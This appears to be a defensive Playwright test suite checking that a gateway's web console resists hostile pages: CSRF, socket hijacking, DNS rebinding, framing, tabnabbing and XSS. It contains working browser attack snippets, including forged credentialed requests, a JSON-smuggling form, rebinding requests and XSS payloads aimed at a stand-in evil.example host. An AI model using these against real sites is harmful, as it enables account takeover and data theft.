/**
 * What a web page can do to the gateway of whoever looks at it: tried by hostile pages in a real Chromium, beside the operator's own page that is
 * signed in. Held against what the gateway has on record afterwards, not against what the hostile page sees.
 */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import type { Frame, Page, Request } from 'playwright-core'
import { eventually } from '../support/eventually.ts'
import { STRANGER, answered, broken, carriedOut, inPage, records, refused, setStage, skip } from './web-attack-stage.ts'
import type { Stage } from './web-attack-stage.ts'

const LIMIT = { skip, timeout: 240_000 }

/** In a page: opens each socket, says what it was told to, and answers what came of it. */
const TRY_SOCKETS = `(tries) => Promise.all(tries.map(({ url, protocols, frames }) => new Promise((done) => {
  const socket = new WebSocket(url, protocols)
  let heard = 'refused'
  socket.onopen = () => {
    heard = 'open'
    for (const frame of frames) socket.send(JSON.stringify(frame))
    setTimeout(() => socket.close(), 3000)
  }
  socket.onmessage = ({ data }) => {
    heard += ' ' + data
    if (JSON.parse(data).type === 'ack') socket.close()
  }
  socket.onclose = () => done(heard)
})))`

describe('a hostile page beside the operator’s', { skip }, () => {
  const sweeps: (() => Promise<void>)[] = []
  let stage: Stage
  before(async () => {
    stage = await setStage({ after: (run) => void sweeps.push(run) })
  })
  after(async () => {
    for (const sweep of sweeps) await sweep()
  })
  const visit = async (origin: string): Promise<Page> => {
    const page = await stage.context.newPage()
    await page.goto(origin)
    return page
  }
  const api = (): string => stage.gateway.url
  const socketUrl = (): string => `${stage.gateway.url.replace('http', 'ws')}/v1/ws`

  test('a link with another gateway or a token in it leads the page nowhere else, and gets nothing of what is stored', LIMIT, async () => {
    const { context, site } = stage
    const elsewhere = `ws://${STRANGER}:${site.port}/v1/ws`
    const params = `gatewayUrl=${elsewhere}&gateway=${elsewhere}&url=${elsewhere}&ws=${elsewhere}&endpoint=${elsewhere}&token=ock_live_stolen&key=ock_live_stolen`
    const lure = await visit(`http://${STRANGER}:${site.port}/lure`)
    const known = site.asked.length
    for (const path of [`/?${params}`, `/#${params}`, `/?${params}#/c/c-x&${params}`, `/channels.html?${params}#${params}`]) {
      const [page] = await Promise.all([
        context.waitForEvent('page'),
        inPage(
          lure,
          "(href) => document.body.appendChild(Object.assign(document.createElement('a'), { href, target: '_blank' })).click()",
          api() + path,
        ),
      ])
      const asked: Request[] = []
      const sockets: string[] = []
      page.on('request', (request) => asked.push(request))
      page.on('websocket', (socket) => sockets.push(socket.url()))
      const isShown = path.startsWith('/channels')
        ? page.getByRole('heading', { name: 'http', exact: true })
        : page.getByText('Online', { exact: true })
      await isShown.waitFor()
      await page.reload()
      await isShown.waitFor()
      assert.ok(asked.length > 5)
      for (const request of asked) {
        assert.equal(new URL(request.url()).origin.replace('ws:', 'http:'), api())
        assert.equal((await request.allHeaders())['authorization'], undefined)
      }
      assert.deepEqual([...new Set(sockets)], path.startsWith('/channels') ? [] : [socketUrl()])
      assert.deepEqual(await broken(page), [], 'nothing was even tried against the policy')
      await page.close()
    }
    assert.deepEqual(
      site.asked.slice(known).filter((line) => !line.startsWith('GET /favicon.ico')),
      [],
    )
    await lure.close()
  })

  test('no page of another origin opens a socket, by the victim’s cookie or by a guess, and each try is counted', LIMIT, async () => {
    const { gateway } = stage
    const was = await records(stage)
    const isSigned = `base64url.bearer.authorization.openclaw.${Buffer.from(gateway.key).toString('base64url')}`
    const message = { type: 'message', id: 'hijacked', conversation: 'hijacked', payload: 'hijacked' }
    const tries = [
      { protocols: ['openclaw.v1'], frames: [message] },
      // The right key: a guess that would have hit.
      { protocols: ['openclaw.v1', isSigned], frames: [message] },
      { protocols: ['openclaw.v1'], frames: [{ type: 'auth', token: gateway.key }, message] },
      ...Array.from({ length: 12 }, (_, i) => ({ protocols: ['openclaw.v1'], frames: [{ type: 'auth', token: `ock_live_guess${i}` }] })),
    ].map((each) => ({ ...each, url: socketUrl() }))
    for (const origin of stage.origins) {
      const before = await refused(stage, 'origin')
      const page = await visit(origin)
      assert.deepEqual([...new Set(await inPage<string[]>(page, TRY_SOCKETS, tries))], ['refused'], origin)
      assert.equal((await refused(stage, 'origin')) - before, tries.length, `${origin}: each is counted`)
      await page.close()
    }
    assert.equal(await records(stage), was)
    // Our own page, by the same script: what was tried works where it may.
    const [byCookie, byKey] = await inPage<string[]>(stage.own, TRY_SOCKETS, tries.slice(0, 2))
    assert.match(`${byCookie}`, /^open .*"ready".*"ack"/)
    assert.match(`${byKey}`, /^open .*"ready".*"ack"/)
    assert.notEqual(await records(stage), was)
  })

  test('no form, fetch, beacon or image of another page changes anything, on any route there is', LIMIT, async () => {
    const { gateway } = stage
    const made = await gateway.fetch('/v1/keys', post({ name: 'victim', scopes: ['messages:write'] }))
    const { id } = (await made.json()) as { readonly id: string }
    const harms: readonly Harm[] = [
      { method: 'POST', path: '/v1/messages', body: { payload: 'forged' } },
      { method: 'POST', path: '/v1/keys', body: { name: 'forged', scopes: ['*'] } },
      { method: 'POST', path: '/v1/roles', body: { name: 'forged', permissions: ['*'] } },
      { method: 'POST', path: `/v1/keys/${id}/rotate`, body: {} },
      { method: 'POST', path: '/v1/channels/http/pause' },
      { method: 'POST', path: '/v1/channels/http/resume' },
      { method: 'DELETE', path: `/v1/keys/${id}` },
      // Last: signs in as somebody else.
      { method: 'POST', path: '/v1/console/session', body: { key: gateway.key } },
    ]
    const was = await records(stage)
    const all = [...harms, ...(await changes(stage))]
    for (const origin of stage.origins) {
      const outer = await visit(origin)
      const done = await carriedOut(stage)
      const frame = await sandboxed(outer)
      for (const page of [outer, frame]) {
        const before = await refused(stage, 'origin')
        await inPage(page, SWEEP, { api: api(), all })
        for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'])
          await inPage(page, SUBMIT, { url: `${api()}/v1/messages`, enctype })
        const posts = all.filter(({ method }) => method === 'POST').length
        // Four ways a page has without asking first, three forms, and the beacons that come when they like.
        await eventually(async () => (await refused(stage, 'origin')) - before >= posts * 5 + 3, 'a refusal for each try', 30_000)
      }
      await outer.close()
      assert.deepEqual(await carriedOut(stage), done, origin)
      assert.equal(await records(stage), was, origin)
    }
    // The operator's own page, with the very same bodies, does all of it.
    const statuses = await inPage<number[]>(stage.own, DO, { harms })
    assert.deepEqual(
      statuses.map((status) => Math.floor(status / 100)),
      harms.map(() => 2),
      statuses.join(),
    )
    assert.notEqual(await records(stage), was)
  })

  test('what the victim may read, no other page’s request is given: the cookie counts on our own pages alone', LIMIT, async () => {
    const { site } = stage
    const paths = ['/v1/roles', '/v1/messages', '/v1/keys', '/v1/config', '/v1/audit', '/v1/channels', '/v1/events/stream']
    for (const origin of stage.origins) {
      const page = await visit(origin)
      const before = await answered(stage, 401)
      assert.deepEqual([...new Set(await inPage<string[]>(page, READ, { api: api(), paths }))], ['TypeError'], origin)
      assert.equal((await answered(stage, 401)) - before, paths.length * 3, 'to the gateway each of them was nobody')
      // Another port of this machine is the same site to a browser: there the cookie travels, and is not looked at.
      // A cookie knows no port (RFC 6265 §8.5), so the hostile server sees which requests to this machine it goes with.
      const known = site.asked.length
      await inPage(page, FETCH, `http://127.0.0.1:${site.port}/probe`)
      const [probe] = site.asked.slice(known).filter((line) => line.startsWith('GET /probe'))
      assert.equal(probe?.includes('openclaw_'), !origin.includes(STRANGER), `${origin}: SameSite=Strict`)
      await page.close()
    }
    assert.deepEqual(await inPage(stage.own, `() => fetch('/v1/messages').then(({ status }) => status)`, null), 200)
    const [cookie, ...others] = await stage.context.cookies()
    assert.deepEqual([cookie?.httpOnly, cookie?.sameSite, others], [true, 'Strict', []])
  })

  test('a hostile name that is made to lead here gets nothing: no API, no socket, no page, no metrics', LIMIT, async () => {
    const { gateway, context } = stage
    const was = await records(stage)
    const { port } = new URL(gateway.url)
    const before = await refused(stage, 'host')
    for (const reached of [port, String(stage.metricsPort)]) {
      const origin = `http://${STRANGER}:${reached}`
      const page = await context.newPage()
      // The first answer came from the attacker's own machine; then the name was changed.
      await page.route(`${origin}/prize`, (route) =>
        route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Prize</title>' }),
      )
      await page.goto(`${origin}/prize`)
      const statuses = await inPage<number[]>(page, REBOUND, { key: gateway.key })
      assert.deepEqual([...new Set(statuses)], [421], `${origin}: ${statuses.join()}`)
      const hello = { type: 'auth', token: gateway.key }
      const tries = [{ url: `${origin.replace('http', 'ws')}/v1/ws`, protocols: ['openclaw.v1'], frames: [hello] }]
      assert.deepEqual(await inPage(page, TRY_SOCKETS, tries), ['refused'])
      await page.close()
    }
    assert.equal(await records(stage), was)
    assert.ok((await refused(stage, 'host')) - before >= 10)
  })

  test('no page shows ours in a frame of its own, or keeps hold of a window it opened', LIMIT, async () => {
    const { context, site } = stage
    for (const origin of stage.origins) {
      const page = await visit(origin)
      const shown = await inPage<string>(page, FRAME, `http://127.0.0.1:${site.port}/in-a-frame`)
      assert.equal(shown, 'loaded', 'what may be framed is')
      assert.ok(page.frames().some((frame) => frame.url().endsWith('/in-a-frame')))
      for (const path of ['/', '/channels.html', '/v1/whoami', '/v1/nothing', '/icon.svg']) await inPage(page, FRAME, api() + path)
      const ours = page.frames().filter((frame) => frame.url().startsWith(api()))
      assert.deepEqual(
        ours.map((frame) => frame.url()),
        [],
      )
      const [opened] = await Promise.all([
        context.waitForEvent('page'),
        inPage(page, '(url) => void (window.held = open(url))', `${api()}/`),
      ])
      await opened.getByText('Online', { exact: true }).waitFor()
      assert.equal(await opened.evaluate('window.opener'), null)
      assert.equal(await page.evaluate('held.closed'), true, 'to its opener it is gone')
      await opened.close()
      await page.close()
    }
  })

  test('markup that got into a page would run nothing, load nothing and send nothing', LIMIT, async () => {
    const { site } = stage
    for (const path of ['/', '/channels.html']) {
      const page = await visit(api() + path)
      const known = site.asked.length
      const ran = await inPage<string[]>(page, BREAK_IN, { elsewhere: stage.origins[1] })
      assert.deepEqual(ran, [], path)
      assert.deepEqual(site.asked.slice(known), [], path)
      const tried = (await broken(page)).map((each) => each.split(' ', 1)[0])
      for (const directive of [
        'script-src-elem',
        'script-src-attr',
        'script-src',
        'style-src-elem',
        'style-src-attr',
        'img-src',
        'connect-src',
        'frame-src',
        'object-src',
        'worker-src',
        'base-uri',
        'form-action',
      ])
        assert.ok(tried.includes(directive), `${path}: ${directive} was not refused; refused were ${tried.join()}`)
      await page.close()
    }
  })

  test('what people write is shown as they wrote it, in the list, the transcript and the address, and none of it runs', LIMIT, async () => {
    const page = await visit(`${api()}/`)
    await page.getByText('Online', { exact: true }).waitFor()
    for (const text of HOSTILE_TEXTS) {
      await page.evaluate(`location.hash = ${JSON.stringify(`#/c/${encodeURIComponent(text.slice(0, 40))}`)}`)
      await page.getByRole('button', { name: 'New conversation' }).click()
      // What stood there is gone first, or it would be read in place of the new.
      await page.locator('#empty').waitFor()
      await page.locator('#composer-text').fill(text)
      await page.keyboard.press('Enter')
      await page.getByRole('article', { name: 'Reply' }).first().waitFor()
      assert.deepEqual(await page.locator('.bubble').allTextContents(), [text])
      assert.deepEqual(await page.evaluate(FOREIGN_NODES), [])
    }
    await page.reload()
    await page.getByRole('article', { name: 'Reply' }).first().waitFor()
    assert.deepEqual(await page.evaluate(FOREIGN_NODES), [])
    assert.equal(await page.evaluate('window.ran'), undefined)
    assert.deepEqual(await broken(page), [])
    await page.close()
  })
})

test('signed out, nothing of the session is left: no cookie, no store, no cache, no page to go back to', LIMIT, async (t) => {
  const { own, context, gateway } = await setStage(t)
  const [cookie] = await context.cookies()
  const other = await context.newPage()
  await other.goto(`${gateway.url}/`)
  await other.getByText('Online', { exact: true }).waitFor()
  await own.locator('#composer-text').fill('private words')
  await own.keyboard.press('Enter')
  await own.getByRole('article', { name: 'Reply' }).getByText('You said: private words').waitFor()
  // As the browser would keep it if it were told nothing.
  assert.match(await inPage(own, "() => fetch('/v1/messages').then((answer) => answer.text())", null), /private words/)
  await own.getByRole('link', { name: 'Channels' }).click()
  await own.getByRole('heading', { name: 'http', exact: true }).waitFor()
  await own.goBack()
  await own.getByText('Online', { exact: true }).waitFor()
  await own.getByRole('button', { name: 'Sign out' }).click()
  await own.getByText('You are signed out.').waitFor()
  await other.getByLabel('API key').waitFor()
  assert.deepEqual(await context.cookies(), [])
  const withOld = await fetch(`${gateway.url}/v1/whoami`, { headers: { cookie: `${cookie?.name}=${cookie?.value}` } })
  assert.equal(withOld.status, 401)
  const left = await inPage<object>(own, LEFT, null)
  assert.deepEqual(left, { stores: [0, 0, 0], caches: [], workers: 0, cached: 'TypeError', asked: 401 })
  for (const page of [own, other]) assert.doesNotMatch(await page.content(), /private words/)
  await own.goForward()
  await own.getByLabel('API key').waitFor()
  await own.goBack()
  await own.getByLabel('API key').waitFor()
  assert.doesNotMatch(await own.content(), /private words/)
})

interface Harm {
  readonly method: string
  readonly path: string
  readonly body?: unknown
}

const post = (body: unknown): RequestInit => ({
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body),
})

/** Every route of the document that changes something by a credential that a browser could carry. */
async function changes({ gateway }: Stage): Promise<readonly Harm[]> {
  const { paths } = (await (await gateway.fetch('/v1/openapi.json')).json()) as {
    readonly paths: { readonly [path: string]: { readonly [method: string]: { readonly 'x-openclaw-permission': string } } }
  }
  return Object.entries(paths).flatMap(([path, methods]) =>
    Object.entries(methods)
      .filter(([method, operation]) => method !== 'get' && operation['x-openclaw-permission'] !== 'signed')
      .map(([method]) => ({ method: method.toUpperCase(), path: path.replaceAll(/\{\w+\}/g, 'http'), body: {} })),
  )
}

/** A frame without an origin. */
async function sandboxed(page: Page): Promise<Frame> {
  await inPage(
    page,
    "() => new Promise((done) => document.body.append(Object.assign(document.createElement('iframe'), { sandbox: 'allow-scripts allow-forms', srcdoc: '<body>prize', onload: done })))",
    null,
  )
  return page.frames().at(-1) ?? assert.fail('no frame')
}

/** All that a page can send without being asked for leave, and with. */
const SWEEP = `async ({ api, all }) => {
  for (const { method, path, body } of all) {
    const url = api + path
    const text = JSON.stringify(body ?? {})
    const form = new FormData()
    form.append('payload', 'forged')
    const simple = [text, new URLSearchParams({ payload: 'forged' }), form, new Blob([text], { type: 'text/plain' })]
    for (const each of simple) await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: each }).catch(() => {})
    const headers = { 'content-type': 'application/json', 'x-openclaw-csrf': '1' }
    await fetch(url, { method, credentials: 'include', headers, body: text }).catch(() => {})
    navigator.sendBeacon(url, text)
    navigator.sendBeacon(url, new Blob([text], { type: 'application/json' }))
    await new Promise((done) => Object.assign(new Image(), { onload: done, onerror: done, src: url }))
  }
}`

/** A form whose answer goes into a frame; as text it reads as JSON. */
const SUBMIT = `({ url, enctype }) => new Promise((done) => {
  const frame = Object.assign(document.createElement('iframe'), { name: 'sink' + Math.random() })
  document.body.append(frame)
  frame.onload = done
  const form = Object.assign(document.createElement('form'), { method: 'post', action: url, enctype, target: frame.name })
  form.append(Object.assign(document.createElement('input'), { name: '{"payload":"forged","metadata":{"a":"', value: '"}}' }))
  document.body.append(form)
  form.submit()
})`

/** What the operator's own page does on purpose. */
const DO = `async ({ harms }) => {
  const statuses = []
  for (const { method, path, body } of harms) {
    const headers = { 'x-openclaw-csrf': '1', ...(body && { 'content-type': 'application/json' }) }
    statuses.push((await fetch(path, { method, headers, body: body && JSON.stringify(body) })).status)
  }
  return statuses
}`

const FETCH = "(url) => fetch(url, { mode: 'no-cors', credentials: 'include' }).then(() => null)"

const READ = `async ({ api, paths }) => {
  const out = []
  for (const path of paths) {
    for (const mode of ['no-cors', 'cors'])
      out.push(await fetch(api + path, { mode, credentials: 'include' }).then(({ type }) => type, ({ name }) => name))
    await new Promise((done) => document.body.append(Object.assign(document.createElement('script'), { onload: done, onerror: done, src: api + path })))
  }
  return out
}`

/** The page's origin is now the gateway's address: nothing of the browser stands in its way. */
const REBOUND = `async ({ key }) => {
  const authorization = 'Bearer ' + key
  const json = { 'content-type': 'application/json', 'x-openclaw-csrf': '1', authorization }
  const asks = [['/'], ['/channels.html'], ['/v1/whoami'], ['/v1/openapi.json'], ['/healthz'], ['/metrics'], ['/api/metrics', { headers: { authorization } }],
    ['/v1/messages', { method: 'POST', headers: json, body: '{"payload":"rebound"}' }],
    ['/v1/console/session', { method: 'POST', headers: json, body: JSON.stringify({ key }) }]]
  return Promise.all(asks.map(([path, init]) => fetch(path, init).then(({ status }) => status)))
}`

const FRAME = `async (url) => {
  const put = (tag, attribute) => new Promise((done) => {
    const node = document.createElement(tag)
    node.onload = () => done('loaded')
    node.onerror = () => done('failed')
    node[attribute] = url
    document.body.append(node)
  })
  const [first] = await Promise.all([put('iframe', 'src'), put('object', 'data')])
  return first
}`

const BREAK_IN = `async ({ elsewhere }) => {
  window.ran = []
  const put = (tag, attributes) => document.body.appendChild(Object.assign(document.createElement(tag), attributes))
  put('script', { textContent: 'ran.push("inline")' })
  put('script', { src: elsewhere + '/script' })
  put('script', { src: 'data:text/javascript,ran.push("data")' })
  document.body.insertAdjacentHTML('beforeend', '<img src="none" onerror="ran.push(\\'handler\\')"><p style="color:red">')
  put('a', { href: 'javascript:ran.push("link")' }).click()
  put('style', { textContent: 'body { background: url(' + elsewhere + '/style) }' })
  put('link', { rel: 'stylesheet', href: elsewhere + '/sheet' })
  put('img', { src: elsewhere + '/image' })
  put('iframe', { src: elsewhere + '/frame' })
  put('object', { data: elsewhere + '/object' })
  put('base', { href: elsewhere + '/' })
  put('form', { action: elsewhere + '/form', method: 'post' }).submit()
  try { new Worker(URL.createObjectURL(new Blob(['']))) } catch {}
  navigator.sendBeacon(elsewhere + '/beacon', document.body.textContent)
  new WebSocket(elsewhere.replace('http', 'ws') + '/socket')
  await fetch(elsewhere + '/fetch').catch(() => {})
  // By a timer: what the debugger calls may evaluate.
  await new Promise((done) => setTimeout(() => {
    try { new Function('ran.push("eval")')() } catch {}
    done()
  }))
  await new Promise((done) => new EventSource(elsewhere + '/events').onerror = done)
  return ran
}`

const HOSTILE_TEXTS = [
  '<img src=x onerror="window.ran=1"><script>window.ran=2</script>',
  '[click](javascript:window.ran=3) [data](data:text/html,<script>1</script>) javascript:window.ran=4',
  '![x](http://evil.example/pixel.png) <svg onload=window.ran=5> <iframe srcdoc="<script>parent.ran=6</script>">',
  '"><a href="//evil.example" onmouseover=window.ran=7 style=position:fixed;inset:0>',
  '`</code><script>window.ran=8</script>` **<b onclick=ran=9>** <math><mi//xlink:href="data:x,<script>">',
]

/** Elements that no text of anybody may become, and links that lead elsewhere than to http, https or mail. */
const FOREIGN_NODES = `[...document.querySelectorAll('#app script, #app iframe, #app math, #app b, #app style, #app [style], #app [onerror], #app [onload], #app [onclick], #app .bubble *, #app .words img, #app .words svg, #app .conversations img, #app a:not([href^="http"]):not([href^="mailto:"]):not([href^="#"]):not([href^="./"])')].map((node) => node.outerHTML)`

const LEFT = `async () => ({
  stores: [localStorage.length, sessionStorage.length, (await indexedDB.databases()).length],
  caches: await caches.keys(),
  workers: (await navigator.serviceWorker.getRegistrations()).length,
  cached: await fetch('/v1/messages', { cache: 'only-if-cached', mode: 'same-origin' }).then(({ status }) => status, ({ name }) => name),
  asked: await fetch('/v1/messages').then(({ status }) => status),
})`
